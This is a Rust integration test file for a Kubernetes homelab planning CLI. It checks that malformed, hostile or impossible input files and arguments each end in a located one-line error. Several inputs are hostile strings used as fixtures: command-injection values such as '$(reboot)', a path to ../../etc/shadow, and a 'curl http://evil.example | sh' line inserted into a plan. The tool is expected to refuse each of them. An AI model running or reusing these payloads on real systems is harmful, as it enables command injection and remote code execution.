@@ -1,0 +1,657 @@
+//! Bad input through the binary: every malformed, hostile or impossible file or argument ends in
+//! exit 2 and one clear line on stderr (`plan: error: ...`), located at file:line:column where
+//! the problem has a place in the file. Never a panic (exit 101), never a hang.
+//!
+//! tests/cli.rs covers the good paths and the DAG-order refusal of an edited plan; this file
+//! covers the rest of the negative space (docs/errors.md lists every message).
+
+mod common;
+
+use common::{plan, root, scenario, write, Output};
+use std::path::Path;
+
+const HOMELAB: &str = include_str!("../scenarios/homelab.yaml");
+
+/// Asserts `out` is a refusal of bad input and returns its message (without the `plan: error: ` prefix).
+#[track_caller]
+fn refused(out: &Output) -> String {
+    assert_eq!(out.code, 2, "exit code\nstdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
+    assert!(out.stdout.is_empty(), "nothing on stdout for bad input: {}", out.stdout);
+    let message = out.stderr.strip_prefix("plan: error: ").unwrap_or_else(|| panic!("one `plan: error:` line: {:?}", out.stderr));
+    assert_eq!(message.trim_end().lines().count(), 1, "one line, one paragraph: {:?}", out.stderr);
+    message.trim_end().to_string()
+}
+
+/// Replaces exactly one occurrence of `from` (so a mutation cannot silently miss).
+#[track_caller]
+fn edit(text: &str, from: &str, to: &str) -> String {
+    assert_eq!(text.matches(from).count(), 1, "{from:?} must occur once");
+    text.replacen(from, to, 1)
+}
+
+/// `line:column` of `key` on the `nth` line (0-based) that contains `needle`, found by plain
+/// string search: an independent check of the located errors.
+#[track_caller]
+fn at(text: &str, needle: &str, nth: usize, key: &str) -> String {
+    let (n, line) = text.lines().enumerate().filter(|(_, l)| l.contains(needle)).nth(nth).expect("needle present");
+    let column = line.find(key).expect("key on the line") + 1;
+    format!("{}:{column}", n + 1)
+}
+
+/// Runs `plan show` on a scenario text and returns the refusal message, checked to start with the
+/// file name and `location` (`line:column`) when given.
+#[track_caller]
+fn scenario_refused(text: &str, location: Option<&str>) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "scenario.yaml", text);
+    let message = refused(&plan(&["--scenario", &file, "show"]));
+    let expected = match location {
+        Some(l) => format!("{file}:{l}: "),
+        None => format!("{file}: "),
+    };
+    assert!(message.starts_with(&expected), "expected {expected:?} first in {message:?}");
+    message[expected.len()..].to_string()
+}
+
+// --- Files that cannot be read as a scenario or a plan ------------------------------------------
+
+#[test]
+fn a_truncated_scenario_is_a_located_yaml_error() {
+    // Cut inside a flow mapping: the parser reaches the end of the file with it open.
+    let cut = HOMELAB.find("address: 10.0.20.102").unwrap();
+    let after_last_line = format!("{}:1", HOMELAB[..cut].lines().count() + 1);
+    let message = scenario_refused(&HOMELAB[..cut], Some(&after_last_line));
+    assert_eq!(message, "did not find expected node content (the text ends here: is the file cut short?)");
+    // Cut between top-level keys: a field the scenario needs is missing.
+    let cut = HOMELAB.find("target:").unwrap();
+    let message = scenario_refused(&HOMELAB[..cut], Some(&at(HOMELAB, "name: homelab", 0, "name")));
+    assert_eq!(message, "missing field `target`");
+}
+
+#[test]
+fn binary_junk_is_refused_as_not_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("junk.bin");
+    std::fs::write(&path, [0x7f, b'E', b'L', b'F', 0xff, 0xfe, 0x00, 0x01]).unwrap();
+    let message = refused(&plan(&["--scenario", path.to_str().unwrap(), "show"]));
+    assert_eq!(message, format!("scenario {} is not UTF-8 text (invalid byte at offset 4)", path.display()));
+    let plan_message = refused(&plan(&["--plan", path.to_str().unwrap(), "show"]));
+    assert_eq!(plan_message, format!("plan {} is not UTF-8 text (invalid byte at offset 4)", path.display()));
+    // Valid UTF-8 that is not YAML text: control characters.
+    let file = write(dir.path(), "control.yaml", "name: \u{1}\u{2}\u{3}\n");
+    let message = refused(&plan(&["--scenario", &file, "show"]));
+    assert_eq!(message, format!("{file}:1:7: control characters are not allowed"));
+}
+
+#[test]
+fn a_10_mb_file_is_refused_before_it_is_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "big.yaml", &"# padding\n".repeat(1 << 20));
+    let message = refused(&plan(&["--scenario", &file, "show"]));
+    assert_eq!(message, format!("scenario {file} is 10485760 bytes; the limit is 1048576 bytes"));
+    let message = refused(&plan(&["--plan", &file, "show"]));
+    assert_eq!(message, format!("plan {file} is 10485760 bytes; the limit is 1048576 bytes"));
+}
+
+#[test]
+fn a_symlink_loop_is_named() {
+    let dir = tempfile::tempdir().unwrap();
+    let (a, b) = (dir.path().join("a.yaml"), dir.path().join("b.yaml"));
+    std::os::unix::fs::symlink(&b, &a).unwrap();
+    std::os::unix::fs::symlink(&a, &b).unwrap();
+    let message = refused(&plan(&["--scenario", a.to_str().unwrap(), "show"]));
+    assert_eq!(message, format!("scenario {}: too many levels of symbolic links", a.display()));
+}
+
+#[test]
+fn an_unreadable_file_is_refused_unless_the_reader_may_read_anything() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "locked.yaml", HOMELAB);
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o000)).unwrap();
+    let out = plan(&["--scenario", &file, "show"]);
+    if std::fs::read(&file).is_ok() {
+        // Root (CAP_DAC_OVERRIDE) reads a mode-000 file: the tool must read it too, not invent an error.
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        assert!(out.stdout.contains("Phase 0"), "{}", out.stdout);
+    } else {
+        assert_eq!(refused(&out), format!("scenario {file}: permission denied"));
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_file_whose_read_fails_is_refused_even_for_root() {
+    // /proc/self/mem is a regular file that nobody can read at offset 0 (EIO): an unreadable
+    // file that root's privileges do not open up.
+    let message = refused(&plan(&["--scenario", "/proc/self/mem", "show"]));
+    assert!(message.starts_with("scenario /proc/self/mem: "), "{message}");
+    assert!(message.contains("Input/output error"), "{message}");
+}
+
+#[test]
+fn a_directory_a_device_and_a_missing_file_are_named() {
+    let dir = tempfile::tempdir().unwrap();
+    let shown = dir.path().display().to_string();
+    assert_eq!(refused(&plan(&["--scenario", &shown, "show"])), format!("scenario {shown} is a directory"));
+    assert_eq!(refused(&plan(&["--plan", &shown, "show"])), format!("plan {shown} is a directory"));
+    // A device would be read forever (/dev/zero) or not at all.
+    assert_eq!(refused(&plan(&["--scenario", "/dev/zero", "show"])), "scenario /dev/zero is not a regular file");
+    let missing = dir.path().join("absent.yaml").display().to_string();
+    assert_eq!(refused(&plan(&["--scenario", &missing, "show"])), format!("scenario {missing}: no such file"));
+}
+
+#[test]
+fn a_pipe_that_never_ends_is_cut_at_the_limit() {
+    // A fifo has no length to check up front: the read itself must stop at the limit.
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("endless.yaml");
+    let status = std::process::Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
+    assert!(status.success());
+    let writer_path = fifo.clone();
+    let writer = std::thread::spawn(move || {
+        use std::io::Write;
+        let mut pipe = std::fs::OpenOptions::new().write(true).open(writer_path).expect("the fifo opens for writing");
+        let chunk = "# more\n".repeat(1024);
+        // Stops when the reader closes its end (EPIPE); bounded at 64 MB in any case.
+        for _ in 0..(64 << 20) / chunk.len() {
+            if pipe.write_all(chunk.as_bytes()).is_err() {
+                break;
+            }
+        }
+    });
+    let message = refused(&plan(&["--scenario", fifo.to_str().unwrap(), "show"]));
+    assert_eq!(message, format!("scenario {} is more than 1048576 bytes, the limit", fifo.display()));
+    writer.join().unwrap();
+}
+
+#[test]
+fn deep_flow_nesting_is_refused_before_the_yaml_parser_spends_minutes_on_it() {
+    // The YAML scanner's work grows with nesting times tokens: 100 000 levels took minutes.
+    let deep = format!("name: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
+    let started = std::time::Instant::now();
+    let message = scenario_refused(&deep, Some("1:71"));
+    assert_eq!(message, "flow collections ('[' or '{') nested deeper than 64 levels");
+    assert!(started.elapsed().as_secs() < 10, "refused quickly, not after parsing");
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "plan.yaml", &deep);
+    assert_eq!(
+        refused(&plan(&["--plan", &file, "show"])),
+        format!("{file}:1:71: flow collections ('[' or '{{') nested deeper than 64 levels")
+    );
+}
+
+#[test]
+fn an_empty_or_wrongly_shaped_scenario_names_what_is_missing() {
+    assert_eq!(scenario_refused("", Some("1:1")), "missing field `name` (the text ends here: is the file cut short?)");
+    assert_eq!(scenario_refused("[1, 2]\n", Some("1:1")), "invalid type: sequence, expected struct Scenario");
+}
+
+// --- Scenario syntax: YAML that is not the scenario's shape -------------------------------------
+
+#[test]
+fn an_unknown_field_is_located_and_lists_the_known_ones() {
+    let text = edit(HOMELAB, "  control_plane_count: 3\n", "  control_plane_count: 3\n  masters_wanted: 5\n");
+    let message = scenario_refused(&text, Some(&at(&text, "masters_wanted", 0, "masters_wanted")));
+    assert_eq!(message, "target: unknown field `masters_wanted`, expected `control_plane_count`");
+}
+
+#[test]
+fn a_wrong_type_and_a_bad_address_are_located_at_the_value() {
+    let text = edit(HOMELAB, "control_plane_count: 3", "control_plane_count: three");
+    let message = scenario_refused(&text, Some(&at(&text, "control_plane_count", 0, "three")));
+    assert_eq!(message, "target.control_plane_count: invalid type: string \"three\", expected u32");
+    let text = edit(HOMELAB, "address: 10.0.20.104", "address: 10.0.20.304");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node4", 0, "10.0.20.304")));
+    assert_eq!(message, "nodes[4].address: invalid IPv4 address syntax");
+}
+
+#[test]
+fn a_missing_field_is_named() {
+    let text = edit(HOMELAB, "ssh_user: wizard\n", "");
+    assert_eq!(scenario_refused(&text, Some(&at(&text, "name: homelab", 0, "name"))), "missing field `ssh_user`");
+}
+
+// --- Scenario validation: one test per ScenarioErrorKind ----------------------------------------
+
+#[test]
+fn duplicate_names_name_both_places() {
+    let text = edit(HOMELAB, "name: k8s-node2", "name: k8s-node1");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node1", 1, "name")));
+    assert_eq!(message, "node name \"k8s-node1\" is used twice (also nodes[1]) (nodes[2].name)");
+    // A new master may not reuse an existing node's name either.
+    let text = edit(HOMELAB, "name: k8s-master-3", "name: k8s-node4");
+    let message = scenario_refused(&text, Some(&at(&text, "vmid: 206", 0, "name")));
+    assert_eq!(message, "node name \"k8s-node4\" is used twice (also nodes[4]) (new_masters[1].name)");
+    let text = edit(HOMELAB, "{ name: backup-etcd,", "{ name: defrag-etcd,");
+    let message = scenario_refused(&text, Some(&at(&text, "defrag-etcd", 1, "name")));
+    assert_eq!(message, "CronJob name \"defrag-etcd\" is used twice (also cronjobs[0]) (cronjobs[1].name)");
+    let text = edit(HOMELAB, "name: woodpecker-renew-tls", "name: woodpecker-default");
+    let message = scenario_refused(&text, Some(&at(&text, "woodpecker-default", 1, "name")));
+    assert_eq!(message, "consumer name \"woodpecker-default\" is used twice (also consumers[1]) (consumers[3].name)");
+}
+
+#[test]
+fn a_duplicate_hypervisor_name_is_refused() {
+    let five = std::fs::read_to_string(scenario("five-masters.yaml")).unwrap();
+    let text = edit(&five, "{ name: pve-b,", "{ name: pve-a,");
+    let message = scenario_refused(&text, Some(&at(&text, "192.0.2.11", 0, "name")));
+    assert_eq!(message, "hypervisor name \"pve-a\" is used twice (also hypervisors[0]) (hypervisors[1].name)");
+}
+
+#[test]
+fn a_duplicate_vmid_is_refused() {
+    let text = edit(HOMELAB, "vmid: 206", "vmid: 205");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-3", 0, "vmid")));
+    assert_eq!(message, "VMID 205 is used twice (also new_masters[0].vmid) (new_masters[1].vmid)");
+    let text = edit(HOMELAB, "vmid: 205", "vmid: 200");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-2", 0, "vmid")));
+    assert_eq!(message, "VMID 200 is used twice (also nodes[0]) (new_masters[0].vmid)");
+}
+
+#[test]
+fn a_duplicate_address_names_the_first_user() {
+    let text = edit(HOMELAB, "address: 10.0.20.110", "address: 10.0.20.104");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-2", 0, "address")));
+    assert_eq!(message, "address 10.0.20.104 of new master k8s-master-2 is already used by nodes[4].address (new_masters[0].address)");
+    let text = edit(HOMELAB, "address: 10.0.20.101", "address: 10.0.20.1");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node1", 0, "address")));
+    assert_eq!(message, "address 10.0.20.1 of node k8s-node1 is already used by load_balancer.address (nodes[1].address)");
+}
+
+#[test]
+fn a_vip_that_is_not_free_is_refused() {
+    let text = edit(HOMELAB, "vip: 10.0.20.99", "vip: 10.0.20.103");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node3", 0, "address")));
+    assert_eq!(message, "the VIP 10.0.20.103 cannot be the address of node k8s-node3: the VIP must be a free address (nodes[3].address)");
+    let text = edit(HOMELAB, "vip: 10.0.20.99", "vip: 10.0.20.111");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-3", 0, "address")));
+    assert_eq!(
+        message,
+        "the VIP 10.0.20.111 cannot be the address of new master k8s-master-3: the VIP must be a free address (new_masters[1].address)"
+    );
+    let text = edit(HOMELAB, "vip: 10.0.20.99", "vip: 10.0.20.1");
+    let message = scenario_refused(&text, Some(&at(&text, "vip:", 0, "vip")));
+    assert_eq!(message, "the VIP 10.0.20.1 is the load balancer's own address: reserve a separate virtual IP (control_plane_endpoint.vip)");
+    let text = edit(HOMELAB, "vip: 10.0.20.99", "vip: 192.168.1.127");
+    let message = scenario_refused(&text, Some(&at(&text, "vip:", 0, "vip")));
+    assert_eq!(message, "the VIP 192.168.1.127 is a hypervisor's address (control_plane_endpoint.vip)");
+}
+
+#[test]
+fn addresses_inside_the_metallb_pool_are_refused() {
+    let text = edit(HOMELAB, "vip: 10.0.20.99", "vip: 10.0.20.210");
+    let message = scenario_refused(&text, Some(&at(&text, "vip:", 0, "vip")));
+    assert_eq!(
+        message,
+        "the VIP 10.0.20.210 is inside the MetalLB pool 10.0.20.200-10.0.20.220: MetalLB could hand it to a Service (control_plane_endpoint.vip)"
+    );
+    let text = edit(HOMELAB, "address: 10.0.20.111", "address: 10.0.20.205");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-3", 0, "address")));
+    assert_eq!(message, "new master address 10.0.20.205 is inside the MetalLB pool 10.0.20.200-10.0.20.220 (new_masters[1].address)");
+    let text = edit(HOMELAB, "{ first: 10.0.20.200, last: 10.0.20.220 }", "{ first: 10.0.20.220, last: 10.0.20.200 }");
+    let message = scenario_refused(&text, Some(&at(&text, "metallb_pool", 0, "metallb_pool")));
+    assert_eq!(message, "MetalLB pool 10.0.20.220-10.0.20.200 is empty (metallb_pool)");
+}
+
+#[test]
+fn the_target_master_count_must_be_odd_from_3_to_7_and_match_the_new_masters() {
+    let target = |count: &str| edit(HOMELAB, "control_plane_count: 3", &format!("control_plane_count: {count}"));
+    let place = |text: &str| at(text, "control_plane_count", 0, "control_plane_count");
+    let text = target("4");
+    assert_eq!(
+        scenario_refused(&text, Some(&place(&text))),
+        "target of 4 masters is even: etcd tolerates no more failures with 4 than with 3, use an odd count (target.control_plane_count)"
+    );
+    for count in ["0", "1", "9"] {
+        let text = target(count);
+        assert_eq!(
+            scenario_refused(&text, Some(&place(&text))),
+            format!("target of {count} masters: use 3, 5 or 7 (target.control_plane_count)")
+        );
+    }
+    let text = target("5");
+    let message = scenario_refused(&text, Some(&at(&text, "new_masters:", 0, "new_masters")));
+    assert_eq!(message, "2 new masters listed, but a target of 5 masters needs 4 (new_masters)");
+    let text = target("-1");
+    let message = scenario_refused(&text, Some(&at(&text, "control_plane_count", 0, "-1")));
+    assert_eq!(message, "target.control_plane_count: invalid type: integer `-1`, expected u32");
+}
+
+#[test]
+fn an_unknown_hypervisor_lists_the_known_ones() {
+    let text = edit(
+        HOMELAB,
+        "{ name: k8s-node3, role: worker, address: 10.0.20.103, hypervisor: pve }",
+        "{ name: k8s-node3, role: worker, address: 10.0.20.103, hypervisor: pve2 }",
+    );
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node3", 0, "hypervisor")));
+    assert_eq!(message, "unknown hypervisor \"pve2\" (known: pve) (nodes[3].hypervisor)");
+}
+
+#[test]
+fn an_unknown_node_reference_is_located() {
+    let text = edit(
+        HOMELAB,
+        "pinned_to: k8s-master, path: stacks/infra-maintenance/modules/infra-maintenance/main.tf, line: 218",
+        "pinned_to: k8s-master-9, path: stacks/infra-maintenance/modules/infra-maintenance/main.tf, line: 218",
+    );
+    let message = scenario_refused(&text, Some(&at(&text, "defrag-etcd", 0, "pinned_to")));
+    assert_eq!(message, "unknown node \"k8s-master-9\" (cronjobs[1].pinned_to)");
+    let text = edit(HOMELAB, "masters: [k8s-master]", "masters: [k8s-master, k8s-mastr]");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-mastr", 0, "k8s-mastr")));
+    assert_eq!(message, "unknown node \"k8s-mastr\" (upgrade_chain.masters[1])");
+}
+
+#[test]
+fn a_value_that_could_inject_a_shell_command_is_refused() {
+    let text = edit(HOMELAB, "ssh_user: wizard", "ssh_user: \"wizard; reboot\"");
+    let message = scenario_refused(&text, Some(&at(&text, "ssh_user: \"wizard", 0, "ssh_user")));
+    assert_eq!(
+        message,
+        "SSH user \"wizard; reboot\" is not allowed: use lowercase letters, digits, '-' and '.' (it is used in shell commands) (ssh_user)"
+    );
+    let text = edit(HOMELAB, "name: k8s-node4", "name: \"$(reboot)\"");
+    let message = scenario_refused(&text, Some(&at(&text, "$(reboot)", 0, "name")));
+    assert!(message.starts_with("node name \"$(reboot)\" is not allowed") && message.ends_with("(nodes[4].name)"), "{message}");
+    let text = edit(HOMELAB, "path: stacks/kured/main.tf", "path: ../../etc/shadow");
+    let message = scenario_refused(&text, Some(&at(&text, "../../etc/shadow", 0, "path")));
+    assert_eq!(
+        message,
+        "reboot gate path \"../../etc/shadow\" is not allowed: use letters, digits and '._/+@-', no '..' (it is used in shell commands) (reboot_gate.path)"
+    );
+    let text = edit(
+        HOMELAB,
+        "apiserver_flags: [oidc-issuer-url, audit-policy-file, etcd-tuning]",
+        "apiserver_flags: [oidc-issuer-url, \"x' && curl evil\"]",
+    );
+    let message = scenario_refused(&text, Some(&at(&text, "apiserver_flags", 0, "\"x'")));
+    assert!(message.starts_with("apiserver flag \"x' && curl evil\" is not allowed"), "{message}");
+}
+
+#[test]
+fn the_scenario_needs_exactly_one_existing_master() {
+    let text = edit(HOMELAB, "{ name: k8s-node1, role: worker,", "{ name: k8s-node1, role: control-plane,");
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-node1", 0, "role")));
+    assert_eq!(message, "2 control-plane nodes: plan converts a cluster with exactly one master (nodes[1].role)");
+    let text = edit(HOMELAB, "    role: control-plane\n", "    role: worker\n");
+    let message = scenario_refused(&text, Some(&at(&text, "nodes:", 0, "nodes")));
+    assert_eq!(message, "no control-plane node: the scenario needs the existing master (nodes)");
+    let text = edit(HOMELAB, "    vmid: 200\n", "");
+    let message = scenario_refused(&text, Some(&at(&text, "- name: k8s-master", 0, "-")));
+    assert_eq!(message, "the existing master k8s-master needs a vmid (the plan snapshots it) (nodes[0])");
+}
+
+#[test]
+fn bad_values_are_located() {
+    let cases: [(&str, &str, &str, &str, &str); 9] = [
+        ("version: \"1.34\"", "version: \"1.x\"", "version: \"1.x\"", "version", "Kubernetes version \"1.x\" is not of the form 1.34 (kubernetes.version)"),
+        (
+            "kubernetes_version: \"1.32\"",
+            "kubernetes_version: \"1.35\"",
+            "kubernetes_version",
+            "kubernetes_version",
+            "the VM template's Kubernetes 1.35 is newer than the cluster's 1.34 (vm_template.kubernetes_version)",
+        ),
+        (
+            "ram_headroom_percent: 5",
+            "ram_headroom_percent: 150",
+            "ram_headroom_percent",
+            "ram_headroom_percent",
+            "headroom must be a percentage from 0 to 100, not 150 (capacity.ram_headroom_percent)",
+        ),
+        ("certs_ttl_min: 120", "certs_ttl_min: 0", "kubeadm:", "kubeadm", "kubeadm TTLs must be positive (kubeadm)"),
+        ("ram_physical_gb: 267", "ram_physical_gb: 0", "ram_physical_gb", "ram_physical_gb", "physical RAM must be more than 0 GB (hypervisors[0].ram_physical_gb)"),
+        (
+            "ram_allocated_gb: 262",
+            "ram_allocated_gb: .nan",
+            "ram_allocated_gb",
+            "ram_allocated_gb",
+            "allocated RAM must be a non-negative number of GB, not NaN (hypervisors[0].ram_allocated_gb)",
+        ),
+        ("ram_used_gb: 4.6", "ram_used_gb: 40", "ram_used_gb", "ram_used_gb", "node k8s-master uses more RAM than it has (nodes[0].ram_used_gb)"),
+        (
+            "path: config, server: https://10.0.20.100:6443",
+            "path: config, server: http://10.0.20.100",
+            "root-kubeconfig",
+            "server",
+            "server \"http://10.0.20.100\" is not of the form https://ADDRESS:PORT (consumers[0].server)",
+        ),
+        (
+            "path: config, server: https://10.0.20.100:6443",
+            "path: config, server: https://10.0.20.101:6443",
+            "root-kubeconfig",
+            "server",
+            "consumer root-kubeconfig uses https://10.0.20.101:6443, but the cluster's API is at https://10.0.20.100:6443 (consumers[0].server)",
+        ),
+    ];
+    for (from, to, needle, key, expected) in cases {
+        let text = edit(HOMELAB, from, to);
+        assert_eq!(scenario_refused(&text, Some(&at(&text, needle, 0, key))), expected, "{from} -> {to}");
+    }
+    let text = edit(
+        HOMELAB,
+        "  - { name: k8s-master-3, address: 10.0.20.111, vmid: 206, hypervisor: pve, vcpu: 8, ram_gb: 32, disk_gb: 64 }",
+        "  - { name: k8s-master-3, address: 10.0.20.111, vmid: 206, hypervisor: pve, vcpu: 0, ram_gb: 32, disk_gb: 64 }",
+    );
+    let message = scenario_refused(&text, Some(&at(&text, "k8s-master-3", 0, "ram_gb")));
+    assert_eq!(message, "new master k8s-master-3 needs RAM and vCPUs (new_masters[1].ram_gb)");
+}
+
+#[test]
+fn hypervisor_node_and_consumer_counts_are_bounded() {
+    let hypervisors_at = HOMELAB.find("hypervisors:\n").unwrap();
+    let nodes_at = HOMELAB.find("\nnodes:\n").unwrap();
+    let empty = format!("{}hypervisors: []{}", &HOMELAB[..hypervisors_at], &HOMELAB[nodes_at..]);
+    assert_eq!(
+        scenario_refused(&empty, Some(&at(&empty, "hypervisors: []", 0, "hypervisors"))),
+        "at least one hypervisor is needed (hypervisors)"
+    );
+    let nine: String =
+        (0..9).map(|i| format!("  - {{ name: h{i}, address: 192.168.2.{i}, ram_physical_gb: 64, ram_allocated_gb: 1 }}\n")).collect();
+    let many = format!("{}hypervisors:\n{nine}{}", &HOMELAB[..hypervisors_at], &HOMELAB[nodes_at..]);
+    let message = scenario_refused(&many, Some(&at(&many, "hypervisors:", 0, "hypervisors")));
+    assert_eq!(message, "at most 8 hypervisors are supported (hypervisors)");
+    // 60 more workers: 67 nodes with the existing ones and the new masters.
+    let workers: String = (0..60).map(|i| format!("  - {{ name: w{i}, role: worker, address: 10.0.21.{i}, hypervisor: pve }}\n")).collect();
+    let text = edit(HOMELAB, "\nnew_masters:", &format!("{workers}\nnew_masters:"));
+    assert_eq!(scenario_refused(&text, Some(&at(&text, "nodes:", 0, "nodes"))), "67 nodes: at most 64 are supported (nodes)");
+    let consumers: String =
+        (0..60).map(|i| format!("  - {{ name: c{i}, kind: kubeconfig, path: c{i}, server: https://10.0.20.100:6443 }}\n")).collect();
+    let text = edit(HOMELAB, "\ncronjobs:", &format!("{consumers}\ncronjobs:"));
+    assert_eq!(scenario_refused(&text, Some(&at(&text, "consumers:", 0, "consumers"))), "at most 64 consumers are supported (consumers)");
+}
+
+// --- Command-line arguments -----------------------------------------------------------------------
+
+#[test]
+fn an_unknown_or_ambiguous_node_in_fail_lists_the_nodes() {
+    let message = refused(&plan(&["simulate", "--fail", "master-9"]));
+    assert_eq!(
+        message,
+        "unknown node \"master-9\" (nodes: k8s-master, k8s-master-2, k8s-master-3, k8s-node1, k8s-node2, k8s-node3, k8s-node4)"
+    );
+    let message = refused(&plan(&["simulate", "--fault", "hypervisor-failure", "--fail", "pve2"]));
+    assert!(message.starts_with("unknown node \"pve2\""), "{message}");
+    // Two workers whose names end in -edge: the short form names both.
+    let text = edit(&edit(HOMELAB, "name: k8s-node1", "name: a-edge"), "name: k8s-node2", "name: b-edge");
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "edges.yaml", &text);
+    let message = refused(&plan(&["--scenario", &file, "simulate", "--fail", "edge"]));
+    assert_eq!(message, "node \"edge\" is ambiguous: a-edge, b-edge");
+}
+
+#[test]
+fn an_unknown_step_or_action_in_at_is_refused() {
+    let message = refused(&plan(&["simulate", "--fail", "master-2", "--at", "9.9"]));
+    assert!(message.starts_with("--at \"9.9\": no step 9.9 in the plan (steps: 0.1, 0.2, 0.3,"), "{message}");
+    assert!(message.ends_with("7.5, 8.1)"), "{message}");
+    let message = refused(&plan(&["simulate", "--fail", "master-2", "--at", "2.5@99"]));
+    assert_eq!(message, "--at \"2.5@99\": step 2.5 has 4 action(s); use @0 to @3");
+    let message = refused(&plan(&["simulate", "--fail", "master-2", "--at", "2.5@-1"]));
+    assert_eq!(message, "--at \"2.5@-1\": the part after @ is an action number");
+}
+
+#[test]
+fn a_bad_duration_in_for_shows_the_accepted_forms() {
+    for duration in ["soon", "0s", "5x", "10m5", "99999999999h", ""] {
+        let message = refused(&plan(&["simulate", "--fail", "master-2", "--for", duration]));
+        assert_eq!(message, format!("duration {duration:?}: use a number with s, m or h (90s, 10m, 2h30m)"));
+    }
+}
+
+#[test]
+fn an_unknown_fault_kind_lists_the_kinds() {
+    let message = refused(&plan(&["simulate", "--fail", "master-2", "--fault", "meteor"]));
+    assert_eq!(
+        message,
+        "unknown fault kind \"meteor\" (kinds: crash, reboot, hypervisor-failure, lb-reload, lb-reboot, partition, operator-away, \
+         step-fails-halfway, executor-crash)"
+    );
+    assert_eq!(refused(&plan(&["simulate", "--fault", "partition"])), "fault partition needs --fail NODE");
+    assert_eq!(refused(&plan(&["simulate"])), "nothing fails: give --fail NODE or --fault KIND");
+}
+
+#[test]
+fn clap_usage_errors_exit_2_with_the_valid_choices() {
+    let cases: [(&[&str], &str); 4] = [
+        (&["check", "--depth", "3"], "error: invalid value '3' for '--depth <DEPTH>': 3 is not in 1..=2"),
+        (&["show", "--format", "pdf"], "error: invalid value 'pdf' for '--format <FORMAT>'"),
+        (&["simulate", "--fail", "master-2", "--seed", "x"], "error: invalid value 'x' for '--seed <SEED>'"),
+        (&["frobnicate"], "error: unrecognized subcommand 'frobnicate'"),
+    ];
+    for (args, expected) in cases {
+        let out = plan(args);
+        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
+        assert!(out.stderr.starts_with(expected), "{args:?}: {}", out.stderr);
+        assert!(!out.stderr.contains("panicked"));
+    }
+}
+
+// --- Plan files given with --plan ------------------------------------------------------------------
+
+fn exported() -> String {
+    let out = plan(&["show", "--format", "yaml"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    out.stdout
+}
+
+fn plan_refused(text: &str) -> (String, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "plan.yaml", text);
+    (refused(&plan(&["--plan", &file, "check"])), file)
+}
+
+#[test]
+fn a_truncated_plan_file_is_a_located_yaml_error() {
+    let text = exported();
+    // Cut in the middle of a step: the step lacks its later fields.
+    let cut = text.find("  duration_s:").unwrap();
+    let (message, file) = plan_refused(&text[..cut]);
+    let last_step = text[..cut].rfind("- id:").unwrap();
+    let line = text[..last_step].lines().count() + 1;
+    assert_eq!(message, format!("{file}:{line}:3: steps[0]: missing field `duration_s`"));
+    // Cut before the rollbacks: a whole section is missing.
+    let cut = text.find("\nrollbacks:").unwrap();
+    let (message, file) = plan_refused(&text[..cut]);
+    assert_eq!(message, format!("{file}:{}: missing field `rollbacks`", at(&text, "plan_format", 0, "plan_format")));
+}
+
+#[test]
+fn an_unknown_step_id_names_the_plans_range() {
+    let text = edit(&exported(), "- id: '2.5'\n", "- id: '2.9'\n");
+    let (message, file) = plan_refused(&text);
+    assert_eq!(message, format!("{file}: step 2.9 is not a step of the plan for scenario homelab (its steps run 0.1 to 8.1)"));
+}
+
+#[test]
+fn a_step_with_edited_commands_or_dependencies_is_refused() {
+    let text = exported();
+    let step = text.find("- id: '2.5'\n").unwrap();
+    let run = step + text[step..].find("  - run: ").unwrap() + "  - run: ".len();
+    let edited = format!("{}curl http://evil.example | sh && {}", &text[..run], &text[run..]);
+    let (message, file) = plan_refused(&edited);
+    assert_eq!(
+        message,
+        format!("{file}: step 2.5 was edited (commands differs from the generated plan): a plan file may only reorder or remove steps")
+    );
+    let after = step + text[step..].find("  - step: ").unwrap() + "  - step: ".len();
+    let end = after + text[after..].find('\n').unwrap();
+    let edited = format!("{}'0.1'{}", &text[..after], &text[end..]);
+    let (message, _) = plan_refused(&edited);
+    assert!(
+        message.ends_with("step 2.5 was edited (after differs from the generated plan): a plan file may only reorder or remove steps"),
+        "{message}"
+    );
+}
+
+#[test]
+fn a_duplicated_step_wrong_scenario_format_or_no_steps_is_refused() {
+    let text = exported();
+    // Duplicate: step 8.1 twice (the last step, so the copy keeps the DAG order).
+    let last = text.rfind("- id: '8.1'").unwrap();
+    let rollbacks = text.find("\nrollbacks:").unwrap();
+    let twice = format!("{}{}{}", &text[..rollbacks + 1], &text[last..rollbacks + 1], &text[rollbacks + 1..]);
+    let (message, file) = plan_refused(&twice);
+    assert_eq!(message, format!("{file}: step 8.1 appears twice"));
+    let (message, file) = plan_refused(&edit(&text, "scenario: homelab\n", "scenario: other-lab\n"));
+    assert_eq!(message, format!("{file}: the plan file is for scenario \"other-lab\", not \"homelab\""));
+    let (message, file) = plan_refused(&edit(&text, "plan_format: 1\n", "plan_format: 2\n"));
